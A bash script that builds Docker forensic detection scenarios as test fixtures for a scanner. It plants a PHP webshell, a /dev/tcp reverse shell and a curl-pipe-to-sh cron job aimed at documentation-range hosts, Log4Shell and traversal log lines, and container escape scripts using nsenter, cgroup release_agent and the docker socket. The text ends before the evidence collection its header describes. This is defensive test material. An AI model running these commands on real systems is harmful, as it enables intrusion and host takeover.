#!/bin/bash
# Rebuild the five detection scenarios of this folder from scratch, with a real Docker engine.
#
#   webapp/         web application compromise (webshell, reverse shell, cron, SSH key, uid-0
#                   account, exploitation lines in the container's stdout access log)
#   supplychain/    an image whose build adds a miner and runs a download-and-execute step
#   escape/         a privileged container with a (dummy) docker.sock and a host-root stand-in
#                   at /host, escape tooling inside
#   cryptojacking/  a miner in a hidden folder, started from the shell, miner output in the log
#   clean/          a hardened, boring busybox httpd container (the control)
#
# Runs as root on Debian 12 with the Debian packages docker.io (20.10), busybox-static and
# python3. It starts ONE private dockerd (overlay2, no network, own data root, exec root and
# socket) in a temporary folder, builds the images offline (base image made with
# `docker import` from a BusyBox root file system), runs the containers with --network none,
# plants the artefacts with docker exec, stops the containers, collects the evidence as an
# examiner would, stops the daemon and deletes the temporary folder.
#
# Every planted artefact is FAKE and inert: nothing is downloaded, nothing connects anywhere,
# no planted script or binary is ever run. The "miner" and the "docker client" are tiny
# hand-made ELF files that only call exit(0) and carry the strings a scanner looks for.
# Addresses are documentation ranges (203.0.113.0/24, 198.51.100.0/24, 192.0.2.0/24), names
# are .example (pool.supportxmr.com only appears as text, as a known pool name).
#
# The expected.json files are written by hand (they do not change between runs); this script
# checks that every path they name exists in the evidence. <name>-facts.txt is rewritten by
# every run (ids, digests and times change) and is the authority for those values.
# It takes about 70 seconds.
set -euo pipefail
umask 022
export LC_ALL=C TZ=UTC

OUT=$(cd "$(dirname "$0")" && pwd)
DOCKER=/usr/bin/docker          # Debian's 20.10 client (a newer one may shadow it in PATH)
PY=/usr/bin/python3
BUSYBOX=${BUSYBOX:-/bin/busybox} # from busybox-static: must be statically linked
PACE=${PACE:-0.3}               # seconds between two log lines
SCENARIOS="webapp supplychain escape cryptojacking clean"

[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
for t in dockerd "$DOCKER" "$PY" "$BUSYBOX" /usr/sbin/runc tar gzip sha256sum mount umount base64; do
    command -v "$t" >/dev/null || { echo "missing: $t" >&2; exit 1; }
done
file -L "$BUSYBOX" 2>/dev/null | grep -q 'statically linked' \
    || echo "warning: $BUSYBOX may not be static (install busybox-static)" >&2

W=$(mktemp -d /tmp/dockscope-scen.XXXXXX)
DR="$W/docker"                  # the data root; its folder name is the tarballs' top folder
DPID=
CONTAINERS="webapp node-agent batch-worker status-page"
cleanup() {
    set +e
    if [ -n "$DPID" ] && kill -0 "$DPID" 2>/dev/null; then
        for c in $CONTAINERS; do "$DOCKER" -H "unix://$W/docker.sock" rm -f "$c" >/dev/null 2>&1; done
        kill "$DPID"
        for _ in $(seq 1 30); do kill -0 "$DPID" 2>/dev/null || break; sleep 1; done
        kill -0 "$DPID" 2>/dev/null && kill -9 "$DPID"
        wait "$DPID" 2>/dev/null
    fi
    # anything left mounted below the temporary folder (deepest first), then the folder
    for _ in 1 2 3; do
        grep -F " $W" /proc/mounts | awk '{print $2}' | sort -r | while read -r m; do umount -l "$m"; done
    done
    rm -rf "$W"
}
trap cleanup EXIT

# ---------------------------------------------------------------- runc wrapper
# The sandbox's capability bounding set lacks CAP_SYS_RESOURCE; runc refuses --privileged
# ("unable to apply caps: operation not permitted") and Docker 20.10 ignores --cap-drop
# under --privileged. This wrapper, first in dockerd's PATH, removes the capabilities the
# bounding set lacks from the OCI spec (create) and the process spec (exec), then runs the
# real runc. It changes nothing else; the containers keep Runtime "runc" and
# HostConfig.Privileged true. The specs live in the exec root, which is not evidence.
mkdir -p "$W/bin"
cat >"$W/bin/capfix.py" <<'EOF'
import json, sys
bnd = int([l for l in open("/proc/self/status") if l.startswith("CapBnd:")][0].split()[1], 16)
names = """CHOWN DAC_OVERRIDE DAC_READ_SEARCH FOWNER FSETID KILL SETGID SETUID SETPCAP
LINUX_IMMUTABLE NET_BIND_SERVICE NET_BROADCAST NET_ADMIN NET_RAW IPC_LOCK IPC_OWNER SYS_MODULE
SYS_RAWIO SYS_CHROOT SYS_PTRACE SYS_PACCT SYS_ADMIN SYS_BOOT SYS_NICE SYS_RESOURCE SYS_TIME
SYS_TTY_CONFIG MKNOD LEASE AUDIT_WRITE AUDIT_CONTROL SETFCAP MAC_OVERRIDE MAC_ADMIN SYSLOG
WAKE_ALARM BLOCK_SUSPEND AUDIT_READ PERFMON BPF CHECKPOINT_RESTORE""".split()
missing = {"CAP_" + n for i, n in enumerate(names) if not bnd >> i & 1}
p = sys.argv[1]
j = json.load(open(p))
caps = j.get("process", j).get("capabilities") or {}
if any(missing & set(v or []) for v in caps.values()):
    for k, v in caps.items():
        caps[k] = [c for c in (v or []) if c not in missing]
    with open(p, "w") as f:
        json.dump(j, f)
EOF
cat >"$W/bin/runc" <<EOF
#!/bin/sh
prev=
for a in "\$@"; do
    case "\$prev" in
        --bundle|-b) [ -f "\$a/config.json" ] && $PY "$W/bin/capfix.py" "\$a/config.json" ;;
        --process|-p) [ -f "\$a" ] && $PY "$W/bin/capfix.py" "\$a" ;;
    esac
    prev=\$a
done
exec /usr/sbin/runc "\$@"
EOF
chmod 755 "$W/bin/runc"

# ---------------------------------------------------------------- daemon
PATH="$W/bin:$PATH" dockerd --data-root "$DR" --exec-root "$W/exec" --pidfile "$W/docker.pid" \
    -H "unix://$W/docker.sock" --iptables=false --ip6tables=false --bridge=none \
    --storage-driver overlay2 >"$W/dockerd.log" 2>&1 &
DPID=$!
d() { "$DOCKER" -H "unix://$W/docker.sock" "$@"; }
for _ in $(seq 1 60); do d version >/dev/null 2>&1 && break; sleep 1; done
d version >/dev/null || { cat "$W/dockerd.log" >&2; exit 1; }
DRIVER=$(d info --format '{{.Driver}}')
SERVER_VERSION=$(d version --format '{{.Server.Version}}')
[ "$DRIVER" = overlay2 ] || { echo "storage driver is $DRIVER, not overlay2" >&2; exit 1; }
echo "dockerd $SERVER_VERSION, storage driver $DRIVER"

# ---------------------------------------------------------------- fake values (all invented)
C2=203.0.113.9                  # webapp intruder (TEST-NET-3)
SCANNER=203.0.113.50
MINER_HOST=203.0.113.23         # where the cryptojacker "downloaded" from
SSH_KEY=$($PY -c '
import base64, hashlib, struct
k = hashlib.sha256(b"dockscope scenario fake ed25519 key").digest()
b = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + k
print("ssh-ed25519 " + base64.b64encode(b).decode() + " deploy@build-07")')
WALLET=$($PY -c '
import hashlib
a = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
h = hashlib.shake_256(b"dockscope scenarios fake wallet").digest(94)
print("4" + a[h[0] % 9] + "".join(a[b % 58] for b in h[1:]))')   # 95 chars, Monero-like
[ ${#WALLET} = 95 ]

# mkelf OUT STRING...: a minimal static x86-64 ELF that only calls exit(0), followed by the
# given NUL-terminated strings (what `strings` and YARA see). Inert by construction.
mkelf() {
    $PY - "$@" <<'EOF'
import struct, sys
out, strs = sys.argv[1], sys.argv[2:]
code = bytes([0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05])   # xor edi,edi; mov eax,60; syscall
data = b"\0".join(s.encode() for s in strs) + b"\0"
base, eh_size, ph_size = 0x400000, 64, 56
size = eh_size + ph_size + len(code) + len(data)
eh = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack(
    "<HHIQQQIHHHHHH", 2, 0x3E, 1, base + eh_size + ph_size, eh_size, 0, 0, eh_size, ph_size, 1, 0, 0, 0)
ph = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
open(out, "wb").write(eh + ph + code + data)
EOF
}
XMRIG_STRINGS=("dockscope test fixture: NOT a miner, exits immediately"
    "XMRig/6.21.0" " * ABOUT        XMRig/%s %s/%s" "XMRig %s built on %s with" "xmrig.com"
    "https://xmrig.com/wizard" "donate.v2.xmrig.com:3333" "stratum+tcp://" "stratum+ssl://"
    "--donate-level=N" "donate-level" "\"pools\"" "randomx" "rx/0" "cryptonight" "cn/r"
    "use pool %s:%d %s" "new job from %s:%d diff %u algo %s" "accepted (%lu/%lu) diff %lu"
    "speed 10s/60s/15m %s %s %s H/s max %s H/s" "huge pages" "nicehash" "keepalive")

# ---------------------------------------------------------------- base image acme/busybox:1.35
R="$W/rootfs"
mkdir -p "$R"/{bin,dev,etc,home,proc,root,srv,sys,tmp,usr/bin,usr/local/bin,usr/sbin,var/log,var/run,var/spool/cron/crontabs,var/tmp}
cp "$BUSYBOX" "$R/bin/busybox"
for a in sh ash awk base64 basename cat chmod chown cp cut date dd df dirname du echo env \
         false find grep gzip gunzip head hostname id kill less ln ls mkdir mktemp more mount \
         mv nc nohup nslookup printf ps pwd readlink rm rmdir sed seq sleep sort stat tail tar \
         tee test top touch tr true umount uname uniq vi wc wget which xargs zcat crontab; do
    ln -s busybox "$R/bin/$a"
done
for a in httpd crond; do ln -s ../../bin/busybox "$R/usr/sbin/$a"; done
cat >"$R/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/bin/false
www-data:x:33:33:www-data:/srv/www:/bin/false
app:x:1000:1000:app:/home/app:/bin/false
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
cat >"$R/etc/group" <<'EOF'
root:x:0:
daemon:x:1:
www-data:x:33:
app:x:1000:
nogroup:x:65534:
EOF
cat >"$R/etc/shadow" <<'EOF'
root:*:19857:0:99999:7:::
daemon:*:19857:0:99999:7:::
www-data:*:19857:0:99999:7:::
app:*:19857:0:99999:7:::
nobody:*:19857:0:99999:7:::
EOF
cat >"$R/etc/profile" <<'EOF'
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
export PS1='\h:\w\$ '
umask 022
EOF
cat >"$R/etc/os-release" <<'EOF'
NAME="ACME base"
ID=acme-busybox
VERSION_ID=1.35
PRETTY_NAME="ACME base image (BusyBox 1.35)"
EOF
mkdir -p "$R/home/app" && chown 1000:1000 "$R/home/app"
chmod 0640 "$R/etc/shadow"
chmod 0700 "$R/root"
chmod 1777 "$R/tmp" "$R/var/tmp"
(cd "$R" && tar --sort=name --mtime='2024-05-14 08:00:00Z' --numeric-owner \
    --format=gnu -cf "$W/base.tar" bin dev etc home proc root srv sys tmp usr var)
d import -m 'ACME base rootfs: BusyBox 1.35 (busybox-static)' "$W/base.tar" acme/busybox:1.35 >/dev/null
BASE_SHA=sha256:$(sha256sum "$W/base.tar" | cut -d' ' -f1)

build() {   # build TAG DIR (classic builder, offline)
    find "$2" -exec touch -h -d "@$(( $(date +%s) - 86400 ))" {} +
    DOCKER_BUILDKIT=0 d build --network none --no-cache -t "$1" "$2" >"$W/build-$(basename "$2").log"
    echo "built $1 $(d image inspect --format '{{.Id}}' "$1")"
}

# ---------------------------------------------------------------- image: acme/webapp:1.4
B="$W/b-webapp"
mkdir -p "$B"/www/{cgi-bin,static,uploads}
cat >"$B/www/index.html" <<'EOF'
<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>ACME Travel</title>
<link rel="stylesheet" href="/static/site.css"></head>
<body><h1>ACME Travel</h1><p>Holidays on the far side of the canyon.</p>
<p><a href="/about.html">About</a></p>
<form action="/cgi-bin/upload.cgi" method="post" enctype="multipart/form-data">
<input type="file" name="cv"><button>Send your CV</button></form>
</body></html>
EOF
printf '<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>About</title></head><body><h1>About us</h1></body></html>\n' >"$B/www/about.html"
printf 'body{font-family:sans-serif;margin:2em}\n' >"$B/www/static/site.css"
: >"$B/www/uploads/.keep"
cat >"$B/www/cgi-bin/upload.cgi" <<'EOF'
#!/bin/sh
# CV upload: stores the posted body (no name or type check - the vulnerability)
echo "Content-Type: text/plain"
echo
name=$(echo "$QUERY_STRING" | sed -n 's/.*name=\([^&]*\).*/\1/p')
[ -n "$name" ] && cat > "/srv/www/uploads/$name" && echo "stored $name"
EOF
chmod 755 "$B/www/cgi-bin/upload.cgi"
cat >"$B/httpd.conf" <<'EOF'
# /etc/httpd.conf - ACME travel site (busybox httpd)
H:/srv/www
A:*
*.cgi:/bin/sh
.css:text/css
EOF
cat >"$B/start.sh" <<'EOF'
#!/bin/sh
# ACME travel site - container entrypoint: httpd, access log to stdout
LOG=/var/log/httpd
mkdir -p "$LOG"
: >>"$LOG/access.log"
echo "webapp 1.4: httpd on :8080, docroot /srv/www"
/usr/sbin/httpd -p 8080 -h /srv/www -c /etc/httpd.conf
# PID 1: forward the log and exit cleanly on docker stop (PID 1 ignores an untrapped TERM)
tail -n 0 -F "$LOG/access.log" &
pid=$!
trap 'kill $pid 2>/dev/null; exit 0' TERM INT
wait "$pid"
EOF
chmod 755 "$B/start.sh"
cat >"$B/Dockerfile" <<'EOF'
FROM acme/busybox:1.35
LABEL org.opencontainers.image.title="webapp" org.opencontainers.image.version="1.4" \
      org.opencontainers.image.vendor="ACME Corp"
COPY www /srv/www
COPY httpd.conf /etc/httpd.conf
COPY start.sh /usr/local/bin/start.sh
RUN mkdir -p /var/log/httpd
EXPOSE 8080
WORKDIR /srv/www
ENTRYPOINT ["/usr/local/bin/start.sh"]
EOF
build acme/webapp:1.4 "$B"

# ---------------------------------------------------------------- image: nodetools/builder:18.19 (supply chain)
B="$W/b-supplychain"
mkdir -p "$B"
mkelf "$B/kworkerd" "${XMRIG_STRINGS[@]}"
chmod 755 "$B/kworkerd"
cat >"$B/config.json" <<EOF
{
    "autosave": true,
    "background": true,
    "donate-level": 0,
    "cpu": { "enabled": true, "huge-pages": true, "priority": 0, "max-threads-hint": 50 },
    "randomx": { "init": -1, "mode": "auto" },
    "pools": [
        {
            "url": "stratum+tcp://pool.kworker.example:3333",
            "user": "$WALLET",
            "pass": "x",
            "algo": "rx/0",
            "keepalive": true,
            "tls": false
        }
    ]
}
EOF
cat >"$B/docker-entrypoint.sh" <<'EOF'
#!/bin/sh
# node build tools - entrypoint
nohup /usr/local/bin/kworkerd --config=/etc/kworkerd/config.json >/dev/null 2>&1 &
exec "$@"
EOF
chmod 755 "$B/docker-entrypoint.sh"
cat >"$B/Dockerfile" <<EOF
FROM acme/busybox:1.35
LABEL org.opencontainers.image.title="node-builder" org.opencontainers.image.description="Node.js 18 build tools"
COPY kworkerd /usr/local/bin/kworkerd
COPY config.json /etc/kworkerd/config.json
RUN wget -q -O- http://get.tools.example/install.sh | sh || true
ENV POOL_URL=stratum+tcp://pool.kworker.example:3333 \\
    WALLET=$WALLET
COPY docker-entrypoint.sh /usr/local/bin/docker-entrypoint.sh
ENTRYPOINT ["/usr/local/bin/docker-entrypoint.sh"]
CMD ["sh"]
EOF
build nodetools/builder:18.19 "$B"

# ---------------------------------------------------------------- image: acme/node-agent:0.9 (escape)
B="$W/b-escape"
mkdir -p "$B"
cat >"$B/start.sh" <<'EOF'
#!/bin/sh
# ACME node agent - collects host metrics (needs the docker socket and /host, says the README)
mkdir -p /var/log/agent
: >>/var/log/agent/agent.log
echo "node-agent 0.9: started, host root /host, docker socket /var/run/docker.sock"
# PID 1: forward the log and exit cleanly on docker stop (PID 1 ignores an untrapped TERM)
tail -n 0 -F /var/log/agent/agent.log &
pid=$!
trap 'kill $pid 2>/dev/null; exit 0' TERM INT
wait "$pid"
EOF
chmod 755 "$B/start.sh"
cat >"$B/Dockerfile" <<'EOF'
FROM acme/busybox:1.35
LABEL org.opencontainers.image.title="node-agent" org.opencontainers.image.version="0.9"
COPY start.sh /usr/local/bin/start.sh
ENTRYPOINT ["/usr/local/bin/start.sh"]
EOF
build acme/node-agent:0.9 "$B"

# ---------------------------------------------------------------- image: acme/batch-worker:1.8 (cryptojacking)
B="$W/b-cryptojacking"
mkdir -p "$B"
cat >"$B/start.sh" <<'EOF'
#!/bin/sh
# ACME batch worker - prints one line per finished job
mkdir -p /var/log/worker
: >>/var/log/worker/worker.log
echo "batch-worker 1.8: waiting for jobs"
# PID 1: forward the log and exit cleanly on docker stop (PID 1 ignores an untrapped TERM)
tail -n 0 -F /var/log/worker/worker.log &
pid=$!
trap 'kill $pid 2>/dev/null; exit 0' TERM INT
wait "$pid"
EOF
chmod 755 "$B/start.sh"
cat >"$B/Dockerfile" <<'EOF'
FROM acme/busybox:1.35
LABEL org.opencontainers.image.title="batch-worker" org.opencontainers.image.version="1.8"
COPY start.sh /usr/local/bin/start.sh
WORKDIR /root
ENTRYPOINT ["/usr/local/bin/start.sh"]
EOF
build acme/batch-worker:1.8 "$B"

# ---------------------------------------------------------------- image: acme/status-page:1.2.0 (clean)
B="$W/b-clean"
mkdir -p "$B/www"
printf '<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>Status</title></head>\n<body><h1>All systems operational</h1></body></html>\n' >"$B/www/index.html"
printf '{"status":"ok"}\n' >"$B/www/status.json"
cat >"$B/start.sh" <<'EOF'
#!/bin/sh
# ACME status page - httpd as an unprivileged user, log on the tmpfs, access log to stdout
mkdir -p /tmp/httpd
: >>/tmp/httpd/access.log
echo "status-page 1.2.0: httpd on :8080 as $(id -un 2>/dev/null || id -u)"
/usr/sbin/httpd -p 8080 -h /srv/www
# PID 1: forward the log and exit cleanly on docker stop (PID 1 ignores an untrapped TERM)
tail -n 0 -F /tmp/httpd/access.log &
pid=$!
trap 'kill $pid 2>/dev/null; exit 0' TERM INT
wait "$pid"
EOF
chmod 755 "$B/start.sh"
cat >"$B/Dockerfile" <<'EOF'
FROM acme/busybox:1.35
LABEL org.opencontainers.image.title="status-page" org.opencontainers.image.version="1.2.0" \
      org.opencontainers.image.vendor="ACME Corp"
COPY www /srv/www
COPY start.sh /usr/local/bin/start.sh
USER 1000:1000
EXPOSE 8080
HEALTHCHECK --interval=5s --timeout=3s --start-period=2s --retries=3 \
    CMD ["wget", "-q", "-O", "/dev/null", "http://127.0.0.1:8080/"]
ENTRYPOINT ["/usr/local/bin/start.sh"]
EOF
build acme/status-page:1.2.0 "$B"

# ---------------------------------------------------------------- helpers
now() { date -u '+%d/%b/%Y:%H:%M:%S +0000'; }
# acc CONTAINER LOGFILE IP "METHOD URI" STATUS BYTES "USER-AGENT" [REFERER]: one access-log line
acc() {
    local c=$1 f=$2; shift 2
    printf '%s - - [%s] "%s HTTP/1.1" %s %s "%s" "%s"\n' "$1" "$(now)" "$2" "$3" "$4" "${6:--}" "$5" \
        | d exec -i "$c" sh -c "cat >>$f"
    sleep "$PACE"
}
# put CONTAINER PATH MODE < content: a file written inside the container (as root)
put() { d exec -i -u 0 "$1" sh -c 'mkdir -p "$(dirname "$1")" && cat >"$1" && chmod "$2" "$1"' sh "$2" "$3"; }
# x CONTAINER 'COMMAND': a command run inside the container (as root)
x() { d exec -u 0 "$1" sh -c "$2"; }
running() { [ "$(d inspect --format '{{.State.Running}}' "$1")" = true ] || { d logs "$1"; exit 1; }; }
# stopped CONTAINER: docker stop, which must end it by its TERM trap (exit 0), not by SIGKILL
stopped() { d stop -t 20 "$1" >/dev/null; [ "$(d inspect --format '{{.State.Running}} {{.State.ExitCode}}' "$1")" = "false 0" ] || { d inspect "$1"; exit 1; }; }
waitlog() { for _ in $(seq 1 30); do d logs "$1" 2>&1 | grep -q "$2" && return 0; sleep 0.5; done; d logs "$1"; exit 1; }

CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
IPHONE='Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1'
FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0'
NIKTO='Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'
CURL='curl/7.88.1'
SITE=http://travel.acme.example

# ================================================================ 1. webapp
d run -d --name webapp --network none acme/webapp:1.4 >/dev/null
waitlog webapp 'httpd on'; running webapp
echo "scenario webapp: container $(d inspect --format '{{.Id}}' webapp)"
AL=/var/log/httpd/access.log
a() { acc webapp "$AL" "$@"; }
# normal traffic
a 198.51.100.23 "GET /" 200 433 "$CHROME"
a 198.51.100.23 "GET /static/site.css" 200 41 "$CHROME" "$SITE/"
a 198.51.100.23 "GET /about.html" 200 118 "$CHROME" "$SITE/"
a 198.51.100.41 "GET /" 200 433 "$IPHONE"
a 198.51.100.41 "GET /static/site.css" 200 41 "$IPHONE" "$SITE/"
# scan and exploitation attempts
a "$SCANNER" "GET /" 200 433 "$NIKTO"
a "$SCANNER" "GET /.env" 404 0 "$NIKTO"
a "$SCANNER" "GET /.git/config" 404 0 "$NIKTO"
a "$SCANNER" "GET /phpinfo.php" 404 0 "$NIKTO"
a "$C2" "GET /static/..%2f..%2f..%2f..%2fetc/passwd" 200 1042 "$CURL"
a "$C2" "GET /cgi-bin/../../../../etc/shadow" 400 0 "$CURL"
a "$C2" "GET /?q=%24%7Bjndi:ldap://$C2:1389/Exploit%7D" 200 433 "\${jndi:ldap://$C2:1389/a}"
a "$C2" "GET /about.html" 200 118 "\${\${lower:j}ndi:\${lower:l}dap://$C2:1389/b}"
# the upload CGI takes any name: a PHP web shell lands in the web root
a "$C2" "POST /cgi-bin/upload.cgi?name=../shell.php" 200 24 "$CURL"
put webapp /srv/www/shell.php 0644 <<'EOF'
<?php
// maintenance helper
if (isset($_GET['cmd'])) { echo "<pre>"; system($_GET['cmd']); echo "</pre>"; }
?>
EOF
sleep 1
a "$C2" "GET /shell.php?cmd=id" 200 51 "$CURL"
a "$C2" "GET /shell.php?cmd=uname%20-a" 200 110 "$CURL"
a "$C2" "GET /shell.php?cmd=cat%20/etc/passwd" 200 250 "$CURL"
REVSHELL="bash -i >& /dev/tcp/$C2/4444 0>&1"
RS_B64=$(printf '#!/bin/bash\n%s\n' "$REVSHELL" | base64 -w0)
a "$C2" "GET /shell.php?cmd=echo%20$RS_B64%7Cbase64%20-d%3E/tmp/rs.sh%3Bchmod%20755%20/tmp/rs.sh" 200 11 "$CURL"
printf '#!/bin/bash\n%s\n' "$REVSHELL" | put webapp /tmp/rs.sh 0755
a "$C2" "GET /shell.php?cmd=crontab%20-l" 200 11 "$CURL"
put webapp /var/spool/cron/crontabs/root 0600 <<EOF
*/10 * * * * curl -fsSL http://$C2/s.sh | sh >/dev/null 2>&1
@reboot /tmp/rs.sh
EOF
a "$C2" "POST /shell.php?cmd=crontab%20-" 200 11 "$CURL"
x webapp "mkdir -p /root/.ssh && chmod 700 /root/.ssh && echo '$SSH_KEY' >> /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys"
a "$C2" "GET /shell.php?cmd=mkdir%20-p%20/root/.ssh%3Becho%20ssh-ed25519%20AAAAC3...%20%3E%3E/root/.ssh/authorized_keys" 200 11 "$CURL"
x webapp "echo 'sysbackup:x:0:0:backup:/root:/bin/sh' >> /etc/passwd"
a "$C2" "GET /shell.php?cmd=echo%20sysbackup:x:0:0:backup:/root:/bin/sh%20%3E%3E/etc/passwd" 200 11 "$CURL"
a "$C2" "GET /shell.php?cmd=id%20sysbackup" 200 51 "$CURL"
# normal traffic again
a 192.0.2.15 "GET /" 200 433 "$FIREFOX"
a 192.0.2.15 "GET /static/site.css" 200 41 "$FIREFOX" "$SITE/"
a 198.51.100.23 "GET /about.html" 200 118 "$CHROME" "$SITE/"
sleep 1.5   # let tail -F forward the last lines
stopped webapp

# ================================================================ 3. escape
HOST="$W/host"                  # stand-ins for the host: never the real socket or root
mkdir -p "$HOST/var/run" "$HOST/root/etc" "$HOST/root/root" "$HOST/root/usr/bin" "$HOST/root/var/run"
: >"$HOST/var/run/docker.sock"  # a plain file standing in for the host's docker socket
chmod 0660 "$HOST/var/run/docker.sock"
printf 'node07\n' >"$HOST/root/etc/hostname"
printf 'root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000:admin:/home/admin:/bin/bash\n' >"$HOST/root/etc/passwd"
printf 'PRETTY_NAME="stand-in host root (dockscope test fixture)"\n' >"$HOST/root/etc/os-release"
d run -d --name node-agent --network none --privileged \
    -v "$HOST/var/run/docker.sock:/var/run/docker.sock" \
    -v "$HOST/root:/host" \
    acme/node-agent:0.9 >/dev/null
waitlog node-agent 'started'; running node-agent
echo "scenario escape: container $(d inspect --format '{{.Id}}' node-agent)"
[ "$(d exec node-agent sh -c 'grep CapEff /proc/self/status' | awk '{print $2}')" != 00000000a80425fb ]
ag() { printf '%s agent: %s\n' "$(date -u +%FT%TZ)" "$1" | d exec -i node-agent sh -c 'cat >>/var/log/agent/agent.log'; sleep "$PACE"; }
ag "collected 42 metrics from /host/proc (stand-in: 0)"
ag "docker socket /var/run/docker.sock: not a socket, skipping container inventory"
put node-agent /tmp/host.sh 0755 <<'EOF'
#!/bin/sh
# privileged: join the namespaces of PID 1 and get a host shell
nsenter -t 1 -m -u -i -n -p sh
EOF
put node-agent /tmp/cg.sh 0755 <<'EOF'
#!/bin/sh
# cgroup v1 release_agent escape: the agent runs on the host when the cgroup empties
mkdir -p /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir -p /tmp/cgrp/x
echo 1 > /tmp/cgrp/x/notify_on_release
host_path=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$host_path/cmd" > /tmp/cgrp/release_agent
printf '#!/bin/sh\nps aux > %s/output\n' "$host_path" > /cmd
chmod a+x /cmd
sh -c "echo \$\$ > /tmp/cgrp/x/cgroup.procs"
EOF
put node-agent /tmp/sock.sh 0755 <<'EOF'
#!/bin/sh
# the docker socket is mounted: start a privileged container with the host's / bound
S=/var/run/docker.sock
curl -s --unix-socket $S -H 'Content-Type: application/json' -X POST \
  -d '{"Image":"acme/node-agent:0.9","Entrypoint":["/bin/sh","-c"],"Cmd":["chroot /host sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}}' \
  'http://localhost/containers/create?name=node-agent-update'
curl -s --unix-socket $S -X POST http://localhost/containers/node-agent-update/start
EOF
mkelf "$W/docker-standin" "dockscope test fixture: NOT a docker client, exits immediately" \
    "github.com/docker/cli/cli/command" "Docker version %s, build %s" "DOCKER_HOST" \
    "unix:///var/run/docker.sock" "/v1.41/containers/json" "/v1.41/containers/create" \
    "/v1.41/containers/%s/start" "/v1.41/images/create"
put node-agent /usr/local/bin/docker 0755 <"$W/docker-standin"
x node-agent 'mkdir -p /tmp/cgrp/x'     # only the folder: nothing is mounted
put node-agent /root/.ash_history 0600 <<'EOF'
id
cat /proc/1/cgroup
ls -la /.dockerenv /var/run/docker.sock
grep Cap /proc/self/status
capsh --print
mount | grep cgroup
ls /host /host/etc
cat /host/etc/passwd
docker -H unix:///var/run/docker.sock ps
sh /tmp/sock.sh
mkdir -p /tmp/cgrp/x
sh /tmp/cg.sh
nsenter -t 1 -m -u -i -n -p sh
EOF
ag "collected 42 metrics from /host/proc (stand-in: 0)"
sleep 1.5   # let tail -F forward the last lines
stopped node-agent

# ================================================================ 4. cryptojacking
d run -d --name batch-worker --network none acme/batch-worker:1.8 >/dev/null
waitlog batch-worker 'waiting for jobs'; running batch-worker
echo "scenario cryptojacking: container $(d inspect --format '{{.Id}}' batch-worker)"
job() { printf '%s worker: job %s done in %sms\n' "$(date -u +%FT%TZ)" "$1" "$2" | d exec -i batch-worker sh -c 'cat >>/var/log/worker/worker.log'; sleep "$PACE"; }
job 8811 412; job 8812 388; job 8813 401
mkelf "$W/xmrig" "${XMRIG_STRINGS[@]}"
x batch-worker 'mkdir -p /var/tmp/.x'
put batch-worker /var/tmp/.x/xmrig 0755 <"$W/xmrig"
put batch-worker /var/tmp/.x/config.json 0644 <<EOF
{
    "autosave": true,
    "background": false,
    "donate-level": 1,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 100 },
    "randomx": { "mode": "fast" },
    "pools": [
        { "url": "stratum+ssl://pool.supportxmr.com:443", "user": "$WALLET", "pass": "batch-worker", "algo": "rx/0", "keepalive": true, "tls": true }
    ]
}
EOF
put batch-worker /root/.ash_history 0600 <<EOF
id
uname -a
nproc
cd /var/tmp
mkdir .x
wget -q http://$MINER_HOST/x/xmrig -O /var/tmp/.x/xmrig
wget -q http://$MINER_HOST/x/config.json -O /var/tmp/.x/config.json
chmod +x /var/tmp/.x/xmrig
nohup /var/tmp/.x/xmrig -c /var/tmp/.x/config.json >/proc/1/fd/1 2>&1 &
ps
EOF
# XMRig-style output, as if the miner's output went to PID 1's stdout (imitated: nothing runs)
xm() { printf '[%s]  %s\n' "$(date -u '+%Y-%m-%d %H:%M:%S.%3N')" "$1" | d exec -i batch-worker sh -c 'cat >/proc/1/fd/1'; sleep "$PACE"; }
for l in " * ABOUT        XMRig/6.21.0 gcc/10.2.1" " * LIBS         libuv/1.44.2 OpenSSL/3.0.11 hwloc/2.9.0" \
         " * CPU          Intel(R) Xeon(R) Platinum 8375C CPU @ 2.90GHz (2) 64-bit AES" \
         " * DONATE       1%" " * POOL #1      pool.supportxmr.com:443 algo rx/0" " * COMMANDS     hashrate, pause, resume"; do
    printf '%s\n' "$l" | d exec -i batch-worker sh -c 'cat >/proc/1/fd/1'; sleep 0.1
done
xm "net      use pool pool.supportxmr.com:443 TLSv1.3 203.0.113.80"
xm "net      new job from pool.supportxmr.com:443 diff 10000 algo rx/0 height 3287514 (28 tx)"
xm "randomx  init dataset algo rx/0 (2 threads) seed 9f3d2c07a1b4e6f8..."
xm "randomx  dataset ready (4127 ms)"
xm "cpu      use profile  rx  (2 threads) scratchpad 2048 KB"
xm "cpu      READY threads 2/2 (2) huge pages 100% 2/2 memory 4096 KB (12 ms)"
job 8814 1933
xm "cpu      accepted (1/0) diff 10000 (118 ms)"
xm "miner    speed 10s/60s/15m 1412.6 n/a n/a H/s max 1433.0 H/s"
